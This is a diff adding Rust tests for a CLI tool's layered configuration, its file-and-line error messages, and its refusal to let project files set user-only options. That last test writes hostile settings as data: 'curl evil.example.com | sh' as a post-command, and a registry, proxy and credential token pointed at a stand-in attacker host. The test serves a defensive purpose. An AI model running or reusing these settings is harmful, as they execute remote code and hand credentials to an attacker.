@@ -0,0 +1,153 @@
+use kargo_cli::config::Config;
+use kargo_cli::remote_config::IncludeCache;
+use kargo_cli::status::{ConfigError, ExitStatus};
+use std::fs;
+use std::path::PathBuf;
+
+#[derive(Debug, Default, serde::Deserialize)]
+#[serde(default)]
+struct UpgradeSettings {
+    exclude: Vec<String>,
+    pre_release: bool,
+}
+
+fn vars(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
+    pairs
+        .iter()
+        .map(|(name, value)| (name.to_string(), value.to_string()))
+        .collect()
+}
+
+#[test]
+fn test_project_and_env_layers_override_the_global_config() {
+    let dir = tempfile::tempdir().unwrap();
+    let cache = IncludeCache::new(dir.path().join("cache"));
+    let global = dir.path().join("krater.yaml");
+    fs::write(
+        &global,
+        "scan_dirs: [/src]\n\
+         registry: sparse+https://global.example.com/\n\
+         plugin_settings:\n  \
+           sap:\n    limit: 10\n  \
+           upgrade:\n    exclude: [tokio]\n    pre_release: true\n",
+    )
+    .unwrap();
+    let project = dir.path().join("project");
+    fs::create_dir_all(project.join("crates/core")).unwrap();
+    fs::write(
+        project.join(".kargo.toml"),
+        "rollback_on_failure = true\n\
+         \n\
+         [plugin_settings.upgrade]\n\
+         exclude = [\"serde\"]\n",
+    )
+    .unwrap();
+
+    let config = Config::from_file_with(&global, &cache).unwrap();
+    assert_eq!(
+        config.settings_for("upgrade").origin(),
+        Some(format!("{}:6", global.display()).as_str())
+    );
+
+    // Found from a directory inside the project
+    let config = config
+        .with_project(&project.join("crates/core"))
+        .unwrap()
+        .with_env(vars(&[
+            ("KARGO_PLUGINS", "upgrade, sap"),
+            ("KARGO_ROLLBACK_ON_FAILURE", "false"),
+            ("HOME", "/home/me"),
+        ]))
+        .unwrap();
+    assert_eq!(config.project_file, Some(project.join(".kargo.toml")));
+    assert_eq!(config.scan_dirs, [PathBuf::from("/src")]);
+    assert_eq!(
+        config.registry.as_deref(),
+        Some("sparse+https://global.example.com/")
+    );
+    assert_eq!(config.plugins, Some(vec!["upgrade".into(), "sap".into()]));
+    assert!(!config.rollback_on_failure);
+
+    let upgrade = config.settings_for("upgrade");
+    let settings: UpgradeSettings = upgrade.get().unwrap();
+    assert_eq!(settings.exclude, ["serde"]);
+    // Left to the global section
+    assert!(settings.pre_release);
+    assert_eq!(
+        upgrade.origin(),
+        Some(format!("{}:3", project.join(".kargo.toml").display()).as_str())
+    );
+    assert!(config.settings_for("mddoc").is_empty());
+    let defaults: UpgradeSettings = config.settings_for("mddoc").get().unwrap();
+    assert!(defaults.exclude.is_empty());
+}
+
+#[test]
+fn test_invalid_settings_name_the_file_and_line() {
+    let dir = tempfile::tempdir().unwrap();
+    let project = dir.path().join(".kargo.toml");
+    fs::write(
+        &project,
+        "scan_dirs = [\"/src\"]\n\
+         rollback_on_failure = \"sometimes\"\n",
+    )
+    .unwrap();
+    let error = Config::default().with_project(dir.path()).unwrap_err();
+    assert_eq!(error.path(), project);
+    assert_eq!(error.line(), Some(2));
+    let message = format!("{:#}", anyhow::Error::new(error));
+    assert!(message.contains(".kargo.toml:2: "), "{}", message);
+
+    fs::write(&project, "\n\nscan_dir = [\"/src\"]\n").unwrap();
+    let error = anyhow::Error::new(Config::default().with_project(dir.path()).unwrap_err());
+    assert!(format!("{:#}", error).contains(":3: unknown field `scan_dir`"));
+    assert_eq!(ExitStatus::from_error(&error), ExitStatus::ConfigError);
+
+    let global = dir.path().join("krater.yaml");
+    fs::write(&global, "scan_dirs: [/src]\n\nrollback_on_failure: maybe\n").unwrap();
+    let error =
+        Config::from_file_with(&global, &IncludeCache::new(dir.path().join("cache"))).unwrap_err();
+    assert_eq!(error.downcast_ref::<ConfigError>().unwrap().line(), Some(3));
+
+    let error = Config::default()
+        .with_env(vars(&[("KARGO_ROLLBACK_ON_FAILURE", "sometimes")]))
+        .unwrap_err();
+    assert!(format!("{:#}", anyhow::Error::new(error)).contains("KARGO_ROLLBACK_ON_FAILURE"));
+
+    fs::write(&project, "[plugin_settings.upgrade]\nexclude = \"tokio\"\n").unwrap();
+    let config = Config::default().with_project(dir.path()).unwrap();
+    let error = config
+        .settings_for("upgrade")
+        .get::<UpgradeSettings>()
+        .unwrap_err();
+    assert!(
+        error
+            .to_string()
+            .ends_with(&format!("{}:1", project.display()))
+    );
+}
+
+#[test]
+fn test_projects_cannot_set_what_only_the_user_may() {
+    let dir = tempfile::tempdir().unwrap();
+    let project = dir.path().join(".kargo.toml");
+    for setting in [
+        "plugin_trust = \"allow\"",
+        "registry = \"sparse+https://evil.example.com/\"",
+        "plugins = [\"x\"]",
+        "post_commands = [\"curl evil.example.com | sh\"]",
+        "default_command = \"migrate-edition\"",
+        "[network]\nproxy = \"http://evil.example.com:8080\"",
+        "[network.tokens]\n\"evil.example.com\" = \"keyring:crates-io\"",
+    ] {
+        fs::write(&project, format!("scan_dirs = [\"/src\"]\n\n{}\n", setting)).unwrap();
+        let error = Config::default().with_project(dir.path()).unwrap_err();
+        assert_eq!(error.line(), Some(3), "{}", setting);
+        let message = format!("{:#}", anyhow::Error::new(error));
+        assert!(
+            message.contains("can only be set in your own config"),
+            "{}",
+            message
+        );
+    }
+}